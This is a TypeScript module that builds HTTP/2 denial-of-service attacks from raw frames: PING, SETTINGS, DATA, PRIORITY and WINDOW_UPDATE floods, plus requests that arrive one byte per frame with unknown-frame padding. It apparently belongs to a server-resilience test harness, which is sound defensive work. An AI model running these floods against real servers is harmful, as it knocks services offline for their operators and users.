import {
  DATA,
  END_HEADERS,
  frame,
  HEADERS,
  PING,
  plainFields,
  preface,
  PRIORITY,
  requestFields,
  settings,
  settingsAck,
  uint32,
  UNKNOWN,
  WINDOW_UPDATE,
} from "../raw-frames.ts"
import { attackOn, bidiOf, unaryOf, type Attack } from "./attack.ts"

/** One frame again and again, as fast as the socket takes it, beside one open call. */
function flood(bytes: Buffer): Attack {
  const batch = Buffer.concat(Array.from({ length: Math.ceil(65_536 / bytes.length) }, () => bytes))
  return (address, options) =>
    attackOn(address, options, async (connection) => {
      const headers = plainFields(requestFields(bidiOf(options).path))
      await connection.send(
        Buffer.concat([preface, settings(), settingsAck, frame(HEADERS, END_HEADERS, 1, headers)]),
      )
      while (!connection.closed) await connection.send(batch)
    })
}

export const pingFlood = flood(frame(PING, 0, 0, Buffer.alloc(8)))
export const settingsFlood = flood(settings(65_535))
export const emptyDataFlood = flood(frame(DATA, 0, 1))
export const priorityFlood = flood(frame(PRIORITY, 0, 1, Buffer.alloc(5)))

/** The windows of stream and connection in turn, by one byte. They overflow after 2 GiB only. */
export const windowUpdateFlood = flood(
  Buffer.concat([frame(WINDOW_UPDATE, 0, 1, uint32(1)), frame(WINDOW_UPDATE, 0, 0, uint32(1))]),
)

/** A request of 4 MB, byte by byte, each in a frame of its own and with so much else between. */
function bytewise(filler: Buffer): Attack {
  const one = Buffer.concat([frame(DATA, 0, 1, Buffer.alloc(1)), filler])
  const batch = Buffer.concat(Array.from({ length: Math.ceil(65_536 / one.length) }, () => one))
  return (address, options) =>
    attackOn(address, options, async (connection) => {
      const headers = plainFields(requestFields(unaryOf(options).path))
      const prefix = Buffer.concat([Buffer.from([0]), uint32(4_000_000)])
      await connection.send(
        Buffer.concat([
          preface,
          settings(),
          settingsAck,
          frame(HEADERS, END_HEADERS, 1, headers),
          frame(DATA, 0, 1, prefix),
        ]),
      )
      while (!connection.closed) await connection.send(batch)
    })
}

export const bytewiseRequest = bytewise(Buffer.alloc(0))

/** Node reads 64 KiB at a time, and each byte may keep all of them. A type of frame that nobody knows is skipped. */
export const scatteredRequest = bytewise(
  Buffer.concat(Array.from({ length: 4 }, () => frame(UNKNOWN, 0, 0, Buffer.alloc(16_370)))),
)
